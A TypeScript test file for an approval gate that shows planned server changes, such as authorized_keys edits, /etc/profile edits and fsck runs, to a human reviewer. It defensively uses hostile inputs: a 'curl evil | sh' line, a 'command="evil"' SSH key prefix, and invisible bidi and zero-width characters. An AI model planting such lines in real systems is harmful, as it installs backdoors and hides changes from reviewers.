import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { catalogues } from '../../core/i18n/catalogue.ts'
import type { Change, ChangeOf } from '../../core/record/changes.ts'
import type { ChangePlan } from '../../core/record/plan.ts'
import { because } from '../../core/record/reasons.ts'
import { listed } from '../../test/helpers/policy.ts'
import { makePublicKey } from '../../test/helpers/public-keys.ts'
import { entriesOf, INSTANCE, opened, RESCUE, requested } from '../../test/helpers/thread-events.ts'
import { diffFile, isKeysFile } from './change-diff.ts'
import { diffLines } from './text-diff.ts'
import { emptyThread, follow, type Thread } from './thread.ts'
import { isMessage, view } from './view.ts'

const voice = { text: catalogues.en, policy: listed({}), commandPrefix: '!' }
const key = makePublicKey('riya@laptop').line
const owner = { uid: 0, gid: 0 }

function planOf(playbook: string, changes: readonly Change[]): ChangePlan {
  const { id, name } = INSTANCE
  return { gate: 2, playbook, instance: { id, name }, user: null, selinux: false, changes: [...changes] }
}

function written(path: string, before: string, after: string): ChangeOf<'replace-file'> {
  return {
    kind: 'replace-file',
    path,
    before,
    after,
    backup: `${path}.old`,
    mode: '0644',
    owner,
    why: [because('edited-by-hand')],
  }
}

function run(index: number, evidence: string): Change {
  const command = ['/usr/sbin/e2fsck', '-y', `/dev/disk-${index}`]
  const rest = { succeeds: [0, 1], destructive: true, device: null, undo: null, why: [because('edited-by-hand')] }
  return { kind: 'run', command, ...rest, evidence }
}

function threadOf(plan: ChangePlan, why = ''): Thread {
  const asked = why === '' ? requested(key) : { ...requested(key), why }
  return follow(emptyThread(RESCUE), entriesOf([asked, opened(plan)]))
}

/** As it stands in the gate, and in the file below it. */
function shown(plan: ChangePlan, why?: string) {
  const thread = threadOf(plan, why)
  const gate = thread.items.filter(isMessage).find(({ kind }) => kind === 'gate')
  if (gate === undefined) throw new Error('there is no gate')
  const { blocks } = view(voice, thread, gate)
  return { blocks, gate: JSON.stringify(blocks), file: diffFile(voice.text, RESCUE, plan, thread.state)?.text ?? '' }
}

describe('what is put into a file by hand', () => {
  it.each([
    ['a command beside a key, in a file that is no list of keys', '/etc/profile', `${key}\ncurl evil | sh`],
    ['a command before a key', '/home/opc/.ssh/authorized_keys', `command="evil" ${key}`],
    ['a line that is no key', '/home/opc/.ssh/authorized_keys', `${key}\nevil`],
    ['a command after a name that only looks like it', '/opt/authorized_keys.d/run.sh', 'evil'],
  ])('is shown as it stands there: %s', (_, path, text) => {
    const plan = planOf('edit', [written(path, 'old\n', `old\n${text}\n`)])

    expect(shown(plan).gate).toContain('evil')
  })

  it('is shown as keys when keys are all that is added', () => {
    const plan = planOf('edit', [written('/home/opc/.ssh/authorized_keys', 'a secret\n', `${key}\n`)])

    expect(shown(plan).gate).toContain('SHA256:')
    expect(shown(plan).gate).not.toContain('a secret')
  })

  it('is compared as text when it is more keys than a message shows', () => {
    const many = Array.from({ length: 30 }, (_, index) => makePublicKey(`key-${index}`).line)
    const change = written('/home/opc/.ssh/authorized_keys', '', many.join('\n'))
    const plan = planOf('edit', [change])

    expect(isKeysFile(change, plan)).toBe(false)
    for (const line of many) expect(shown(plan).file).toContain(line)
  })
})

describe('more keys than a message shows', () => {
  const many = Array.from({ length: 30 }, (_, index) => makePublicKey(`key-${index}`))
  const old = `a secret\n${many.map(({ line }) => line).join('\n')}\n`

  it.each(['replace-key', 'undo'])('are all in the file below it, by their fingerprints: %s', (playbook) => {
    const { gate, file } = shown(planOf(playbook, [written('/home/opc/.ssh/authorized_keys', old, `${key}\n`)]))

    expect(gate).toContain('… and 12 more lines')
    expect(gate).toContain('All of it is in the file')
    for (const { fingerprint } of many) expect(file).toContain(fingerprint)
    expect(file).toContain(`+ added    ssh-ed25519  riya@laptop`)
    expect(file).not.toContain('a secret')
    expect(file).not.toContain('AAAA')
  })

  it('has no file where all of them stand in the message', () => {
    const few = many.slice(0, 19).map(({ line }) => `${line}\n`)
    const plan = planOf('replace-key', [written('/home/opc/.ssh/authorized_keys', few.join(''), `${key}\n`)])

    expect(shown(plan).file).toBe('')
    expect(shown(plan).gate).not.toContain('more lines')
  })

  it('has room for as many as it shows, however long what stands beside them', () => {
    const keys = Array.from({ length: 19 }, (_, index) => longestKey(index))
    const kept = `${keys.join('\n')}\n`
    const { gate, file } = shown(
      planOf('replace-key', [written('/home/opc/.ssh/authorized_keys', kept, `${kept}${key}\n`)]),
    )

    expect(gate).toContain('+ added    ssh-ed25519  riya@laptop')
    expect(gate.match(/ {2}kept {5}/g)).toHaveLength(keys.length)
    expect(file).toBe('')
  })

  it('are in the file, too, when what a key was bound to has no room', () => {
    const bound = `command="${'x'.repeat(100)}" ${many[0]?.line}\n`
    const { gate, file } = shown(planOf('replace-key', [written('/home/opc/.ssh/authorized_keys', bound, `${key}\n`)]))

    expect(gate).toContain('All of it is in the file')
    expect(file).toContain(`options: command="${'x'.repeat(100)}"\n`)
  })
})

/** Anybody can name a type for a certificate of their own; what stands in a key besides it is nothing. */
function longestKey(index: number): string {
  const type = Buffer.from(`${'x'.repeat(60)}${index}-cert-v01@openssh.com`)
  const size = Buffer.alloc(4)
  size.writeUInt32BE(type.length)
  return `command="${'x'.repeat(100)}" ${type} ${Buffer.concat([size, type]).toString('base64')} ${'c'.repeat(100)}`
}

describe('what nobody sees', () => {
  it('is written out in the gate and in the file below it, and the gate says so', () => {
    const before = 'if admin:\n'
    const after = `if admin:\u2066# \u200b\n${'y = 2\n'.repeat(1000)}end \n`
    const plan = planOf('edit', [written('/etc/a\u3164b', before, after)])

    const { gate, file } = shown(plan)

    expect(gate).toContain('+if admin:<U+2066># <U+200B>')
    expect(gate).toContain('/etc/a&lt;U+3164&gt;b')
    expect(gate).toContain('stand here as their numbers')
    expect(file).toContain('+++ /etc/a<U+3164>b\n')
    expect(file).toContain('+if admin:<U+2066># <U+200B>\n')
    const said = (text: string) =>
      shown(planOf('edit', [written('/etc/a', before, text)])).gate.includes('their numbers')
    expect([said('if admin: # x\n'), said(`${'y = 2\n'.repeat(1000)}end \n`)]).toEqual([false, true])
  })
})

describe('a plan that is longer than a message', () => {
  it('has its buttons, and says where the rest is, whatever it is', () => {
    const attributes = fc.record({ path: fc.string({ minLength: 1, maxLength: 4000 }) }).map(
      ({ path }): Change => ({
        kind: 'set-attributes',
        path: `/${path}`,
        before: { mode: '0777', owner },
        after: { mode: '0755', owner },
        why: [because('edited-by-hand')],
      }),
    )
    const command = fc.tuple(fc.nat(), fc.string({ maxLength: 5000 })).map(([index, evidence]) => run(index, evidence))
    const changes = fc.array(fc.oneof(attributes, command), { minLength: 1, maxLength: 60 })
    fc.assert(
      fc.property(changes, (all) => {
        const { blocks, file } = shown(planOf('fsck', all))
        expect(blocks.filter(({ type }) => type === 'actions')).toHaveLength(1)
        expect(JSON.stringify(blocks)).toContain('Expires')
        const said = blocks.filter((block) => /edited by hand/.test(JSON.stringify(block))).length
        if (said < all.length) for (const change of all) expect(file).toContain(JSON.stringify(change, null, 2))
      }),
      { numRuns: 50 },
    )
  })

  it('has the reports of all file systems, in the message or below it', () => {
    const { gate, file } = shown(
      planOf(
        'fsck',
        [1, 2, 3, 4].map((index) => run(index, `disk-${index} ${'x'.repeat(2150)}`)),
      ),
    )

    expect(gate).toContain('more changes')
    for (const index of [1, 2, 3, 4]) expect(file).toContain(`disk-${index} xxx`)
  })

  it('shows all lines of its differences, or says where they are, whatever stands in them and around them', () => {
    // What takes more room in a message than it has characters.
    const many = (most: number) =>
      fc
        .tuple(fc.constantFrom('"', '\\', '\t', '&', 'x'), fc.nat({ max: most }))
        .map(([one, count]) => one.repeat(count))
    const text = fc.array(many(600), { maxLength: 6 }).map((lines) => lines.join('\n'))
    const file = fc
      .tuple(many(190), text, text)
      .map(([name, old, more]) => written(`/etc/${name}`, old, `${old}end${more}`))
    fc.assert(fc.property(fc.array(file, { minLength: 1, maxLength: 3 }), many(500), expectAll), { numRuns: 400 })
  })

  it('does so at every length, also where it just fills the message', () => {
    for (let length = 0; length <= 190; length += 1) {
      const path = (nth: number) => `/etc/${'&'.repeat(length)}${nth}`
      const files = [1, 2, 3].map((nth) => written(path(nth), '', `${'"'.repeat(860)}\n`))
      expectAll(files, '')
    }
  })

  it('can not be approved when the file with the rest of it could not be posted', () => {
    const thread = threadOf(planOf('edit', [written('/etc/a', '', 'x = 1\n'.repeat(1000))]))
    const gate = thread.items.find(({ kind }) => kind === 'gate') ?? expect.fail()
    const lost = { ...thread, givenUp: new Set([`diff-${gate.key}`]) }

    const body = JSON.stringify(isMessage(gate) ? view(voice, lost, gate) : undefined)

    expect(body).toContain('could not be posted')
    expect(body).toContain('"action_id":"deny"')
    expect(body).not.toContain('"action_id":"approve"')
  })
})

/** Each difference is in the message as a whole, or all are in a file that the message names. */
function expectAll(files: readonly ChangeOf<'replace-file'>[], why: string): void {
  const { blocks, file: rest } = shown(planOf('edit', files), why)
  const bodies = blocks.flatMap((block) => (block.type === 'rich_text' ? [JSON.stringify(block.elements)] : []))
  const all = files.map(({ before, after }) => diffLines(before, after))
  const areShown = all.every((lines) =>
    bodies.some((body) => body.includes(JSON.stringify(lines.join('\n').trimEnd()))),
  )
  if (rest === '') expect(areShown).toBe(true)
  else for (const lines of all) expect(rest).toContain(lines.join('\n'))
  if (rest !== '') expect(JSON.stringify(blocks)).toContain('All of it is in the file')
}
